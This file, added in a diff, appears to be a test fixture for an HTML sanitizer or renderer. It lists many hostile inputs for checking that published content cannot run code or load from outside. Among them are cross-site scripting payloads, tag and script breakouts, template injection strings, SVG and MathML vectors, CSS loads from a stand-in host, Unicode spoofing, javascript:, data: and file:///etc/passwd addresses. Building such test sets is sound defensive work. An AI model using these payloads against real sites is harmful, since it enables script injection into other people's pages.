@@ -1,0 +1,227 @@
+// What somebody may publish who wants more than to be read. Whatever runs sets `hit`; whatever loads asks a host for
+// which the test puts one that counts who asks.
+
+export const FAR_HOST = "far.invalid";
+const FAR = `http://${FAR_HOST}`;
+
+/** Elements that run or load by themselves. */
+const TAGS = [
+  "<script>hit=1</script>",
+  "<SCRIPT>hit=1</SCRIPT>",
+  "<script/x>hit=1</script>",
+  "<scr<script>ipt>hit=1</scr</script>ipt>",
+  `<script src=${FAR}/x.js></script>`,
+  `<script type=module>import "${FAR}/x.js"</script>`,
+  "<script>hit=1",
+  "<img src=x onerror=hit=1>",
+  "<img/src=x/onerror=hit=1>",
+  "<img src=x onerror='hit=1'//",
+  `<img src=${FAR}/x.png>`,
+  `<img srcset="${FAR}/x.png 1x">`,
+  `<picture><source srcset=${FAR}/x.png><img></picture>`,
+  `<video src=${FAR}/x.mp4 autoplay onerror=hit=1></video>`,
+  `<audio src=${FAR}/x.ogg autoplay onloadstart=hit=1></audio>`,
+  `<video><source onerror=hit=1></video>`,
+  `<video poster=${FAR}/x.png></video>`,
+  "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
+  "<iframe src=javascript:parent.hit=1></iframe>",
+  `<iframe src=${FAR}/></iframe>`,
+  `<object data=${FAR}/x.swf></object>`,
+  "<object data=javascript:hit=1></object>",
+  `<embed src=${FAR}/x.swf>`,
+  "<body onload=hit=1>",
+  "<frameset onload=hit=1>",
+  "<marquee onstart=hit=1>x</marquee>",
+  "<details open ontoggle=hit=1>x</details>",
+  "<input autofocus onfocus=hit=1>",
+  "<select autofocus onfocus=hit=1></select>",
+  "<textarea autofocus onfocus=hit=1></textarea>",
+  "<keygen autofocus onfocus=hit=1>",
+  "<dialog open onfocus=hit=1 autofocus tabindex=0>x</dialog>",
+  "<div popover=manual onbeforetoggle=hit=1>x</div>",
+  "<x contenteditable autofocus onfocus=hit=1>",
+  "<a autofocus tabindex=1 onfocusin=hit=1>x</a>",
+  `<link rel=stylesheet href=${FAR}/x.css>`,
+  `<link rel=preload as=image href=${FAR}/x.png>`,
+  `<link rel=dns-prefetch href=${FAR}>`,
+  `<meta http-equiv=refresh content="0;url=${FAR}/">`,
+  `<base href=${FAR}/>`,
+  `<form action=${FAR}/><button autofocus>x</button></form>`,
+  "<form><button formaction=javascript:hit=1>x",
+  "<isindex type=image src=1 onerror=hit=1>",
+  "<template shadowrootmode=open><img src=x onerror=hit=1></template>",
+  "<noscript><p title=\"</noscript><img src=x onerror=hit=1>\">",
+  "<plaintext>",
+  "<xmp><img src=x onerror=hit=1></xmp>",
+  "<portal src=javascript:hit=1></portal>",
+  "<fencedframe src=javascript:hit=1></fencedframe>",
+];
+
+/** What ends the place in which it stands. */
+const BREAKS = [
+  "\"><script>hit=1</script>",
+  "'><script>hit=1</script>",
+  "\"><img src=x onerror=hit=1>",
+  "\" onmouseover=\"hit=1\" x=\"",
+  "' onfocus='hit=1' autofocus='",
+  "` onclick=hit=1 `",
+  "\" autofocus onfocus=hit=1 tabindex=0 ",
+  "</a><img src=x onerror=hit=1>",
+  "</p></li></ol></template><h1>out</h1>",
+  "</article></section></pregon-inbox><img src=x onerror=hit=1>",
+  "</title><script>hit=1</script>",
+  "</textarea><script>hit=1</script>",
+  "</style><script>hit=1</script>",
+  "</noscript><img src=x onerror=hit=1>",
+  "--><script>hit=1</script><!--",
+  "--!><img src=x onerror=hit=1>",
+  "<!--><img src=x onerror=hit=1>-->",
+  "<![CDATA[><img src=x onerror=hit=1>]]>",
+  "<?xml version=\"1.0\"?><script>hit=1</script>",
+  "<!DOCTYPE x [<!ENTITY y \"<img src=x onerror=hit=1>\">]>&y;",
+];
+
+/** What ends an island of JSON, or a script. */
+const ISLANDS = [
+  "</script><script>hit=1</script>",
+  "</script ><script>hit=1</script>",
+  "</SCRIPT><img src=x onerror=hit=1>",
+  "<!--<script>",
+  "\"};hit=1;//",
+  "\"}</script><script>hit=1</script>{\"",
+  "\\\"};hit=1;//",
+  "\\u003c/script\\u003e\\u003cscript\\u003ehit=1\\u003c/script\\u003e",
+  "\u2028hit=1\u2029",
+  "]]>\"';hit=1//",
+  "__proto__",
+  "constructor",
+  "data: {\"message\":\"false\"}\n\ndata: {\"message\":\"false\"}\n\nevent: reset\ndata: {}\n\n",
+];
+
+/** What a template would make something of. */
+const TEMPLATES = [
+  "{{ 7 * 7 }}",
+  "{{constructor.constructor('hit=1')()}}",
+  "{% for x in y %}{% endfor %}{# nothing #}",
+  "${hit=1}",
+  "#{hit=1}",
+  "<%= hit=1 %>",
+  "[[${hit=1}]]",
+  "*{hit=1}",
+  "{{{{raw}}}}<script>hit=1</script>{{{{/raw}}}}",
+  "{count} {interval}",
+];
+
+/** What is drawn or calculated. */
+const DRAWINGS = [
+  "<svg onload=hit=1>",
+  "<svg/onload=hit=1>",
+  "<svg><script>hit=1</script></svg>",
+  "<svg><script href=data:,hit=1 /></svg>",
+  "<svg><animate onbegin=hit=1 attributeName=x dur=1s>",
+  "<svg><set onbegin=hit=1 attributeName=x to=1>",
+  "<svg><a xlink:href=javascript:hit=1><text y=20>x</text></a></svg>",
+  "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>hit=1</script></svg>#x\"/></svg>",
+  `<svg><image href=${FAR}/x.png /></svg>`,
+  "<svg><foreignObject><img src=x onerror=hit=1></foreignObject></svg>",
+  "<svg><style><img src=x onerror=hit=1></style></svg>",
+  "<math><mtext><mglyph><style><img src=x onerror=hit=1></style></mglyph></mtext></math>",
+  "<math><a xlink:href=javascript:hit=1>x</a></math>",
+  "<math><mi/><annotation-xml encoding=text/html><img src=x onerror=hit=1></annotation-xml></math>",
+];
+
+/** What changes how everything else looks. */
+const STYLES = [
+  "<style>* { display: none }</style>",
+  `<style>@import "${FAR}/x.css";</style>`,
+  `<style>* { background: url(${FAR}/x.png) }</style>`,
+  `<p style="background:url(${FAR}/x.png)">x</p>`,
+  "<p style=\"width:expression(hit=1)\">x</p>",
+  "<p style=\"position:fixed;inset:0;background:red\">x</p>",
+  "<div style=\"animation-name:x\" onanimationstart=hit=1></div>",
+  `color:red;background:url(${FAR}/x.png)`,
+  `}*{background:url(${FAR}/x.png)}`,
+];
+
+/** Text that is more, or less, than it seems. */
+const UNICODE = [
+  "\u202Ethe other way\u202C \u2066alone\u2069 \u200Fto the right",
+  "\u202E>tpircs/<1=tih>tpircs<",
+  "\uFEFFat the start\u200B\u200Cno width\u200D",
+  "\uFF1Cscript\uFF1Ehit=1\uFF1C/script\uFF1E",
+  "\u2039script\u203Ahit=1\u2039/script\u203A",
+  "&lt;script&gt;hit=1&lt;/script&gt;",
+  "&#60;script&#62;hit=1&#60;/script&#62;",
+  "&#x3c;img src=x onerror=hit=1&#x3e;",
+  "&amp;lt;script&amp;gt;",
+  "%3Cscript%3Ehit=1%3C/script%3E",
+  "+ADw-script+AD4-hit=1+ADw-/script+AD4-",
+  "\u{E0001}\u{E0073}\u{E0063}\u{E0072}tags",
+  "Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324\u031E\u0349\u035A\u032F\u031Ea\u0321\u034A\u0360lgo",
+  "👩‍👩‍👧‍👦 🏳️‍🌈 🇪🇸 \u{10FFFF}",
+  "one\r\ntwo\rthree\nfour",
+  "\tin\tbetween\t",
+  `<a href="${FAR}/">x</a>`.repeat(20),
+  "x".repeat(400),
+];
+
+/** Addresses that lead to more than a page. Some stand in a text, too. */
+export const ADDRESSES = [
+  "javascript:hit=1",
+  "JaVaScRiPt:hit=1",
+  " javascript:hit=1",
+  "\u0001javascript:hit=1",
+  "java\tscript:hit=1",
+  "java\nscript:hit=1",
+  "java\rscript:hit=1",
+  "java\u0000script:hit=1",
+  "javascript\t:hit=1",
+  "javascript&colon;hit=1",
+  "javascript&#58;hit=1",
+  "&#106;avascript:hit=1",
+  "javascript%3Ahit=1",
+  "javascript://x.example/%0ahit=1",
+  "javascript://x.example/%0d%0ahit=1",
+  "javascript:/*--></title></style></script><svg/onload=hit=1>",
+  "\u00A0javascript:hit=1",
+  "\u2028javascript:hit=1",
+  "\uFEFFjavascript:hit=1",
+  "feed:javascript:hit=1",
+  "view-source:javascript:hit=1",
+  "jar:javascript:hit=1!/",
+  "vbscript:hit=1",
+  "livescript:hit=1",
+  "data:text/html,<script>hit=1</script>",
+  "data:text/html;base64,PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==",
+  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit=1'/>",
+  "DATA:text/html,<script>hit=1</script>",
+  "blob:http://far.invalid/1",
+  "filesystem:http://far.invalid/temporary/x",
+  "file:///etc/passwd",
+  "about:srcdoc",
+  "chrome://settings/",
+  "intent://x#Intent;scheme=javascript;end",
+  "mailto:ana@example.org?subject=<script>hit=1</script>",
+  "//far.invalid/",
+  "/\\far.invalid/",
+  "\\\\far.invalid\\",
+  "/\t/far.invalid/",
+  "https:far.invalid",
+  "https://x@far.invalid/",
+  "https://x.example/\" onclick=\"hit=1",
+  "https://x.example/'><script>hit=1</script>",
+  "https://x.example/`${hit=1}`",
+  "https://[::1]:0/",
+  "https://xn--80ak6aa92e.example/",
+  "/orders?q=<b>&x=\"1\"",
+  "/orders#<img src=x onerror=hit=1>",
+];
+
+/** Those that may stand where a name does, which is in many places of a page. */
+export const NAMES = [
+  ...TAGS.slice(0, 10), ...BREAKS, ...ISLANDS, ...TEMPLATES, ...DRAWINGS.slice(0, 5), ...UNICODE, ...ADDRESSES.slice(0, 5),
+];
+
+export const TEXTS = [
+  ...TAGS, ...BREAKS, ...ISLANDS, ...TEMPLATES, ...DRAWINGS, ...STYLES, ...UNICODE, ...ADDRESSES.slice(0, 8),
+];
